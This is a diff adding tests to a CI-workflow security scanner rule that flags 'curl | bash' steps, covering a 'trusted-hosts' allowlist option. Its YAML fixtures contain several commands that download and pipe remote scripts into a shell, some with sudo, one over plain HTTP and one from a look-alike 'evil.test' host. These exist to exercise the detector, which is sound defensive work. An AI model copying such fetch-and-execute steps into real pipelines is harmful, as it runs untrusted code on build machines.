@@ -131,4 +131,33 @@ describe(RULE, () => {
             - run: "curl | | sh ((( $( \`"
     `)).toEqual([]);
   });
+  describe('option trusted-hosts', () => {
+    const workflow = yaml`
+      on: push
+      jobs:
+        setup:
+          runs-on: ubuntu-latest
+          steps:
+            - run: curl -fsSL https://install.acme.test/cli.sh | bash
+            - run: curl -fsSL https://cdn.tools.acme.test/x.sh | sudo sh
+            - run: curl -fsSL http://install.acme.test/cli.sh | bash
+            - run: curl -fsSL https://install.acme.test.evil.test/cli.sh | bash
+            - run: curl -fsSL https://acme.test/cli.sh | bash
+    `;
+
+    it('reports every host by default', () => {
+      expect(positions(scanWith(RULE, workflow))).toEqual(['6:14 MEDIUM', '7:14 HIGH', '8:14 HIGH', '9:14 MEDIUM', '10:14 MEDIUM']);
+    });
+
+    it('skips HTTPS scripts of a trusted host and the subdomains of a *. entry, nothing else', () => {
+      const findings = scanWith(RULE, workflow, { ruleOptions: { [RULE]: { 'trusted-hosts': ['Install.Acme.Test', '*.acme.test'] } } });
+      // Plain HTTP stays (the network, not the host, decides what arrives); a look-alike host and the apex of *.acme.test stay.
+      expect(positions(findings)).toEqual(['8:14 HIGH', '9:14 MEDIUM', '10:14 MEDIUM']);
+      expect(findings[0]?.description).toContain('http://install.acme.test');
+    });
+
+    it('an empty list changes nothing', () => {
+      expect(scanWith(RULE, workflow, { ruleOptions: { [RULE]: { 'trusted-hosts': [] } } })).toHaveLength(5);
+    });
+  });
 });
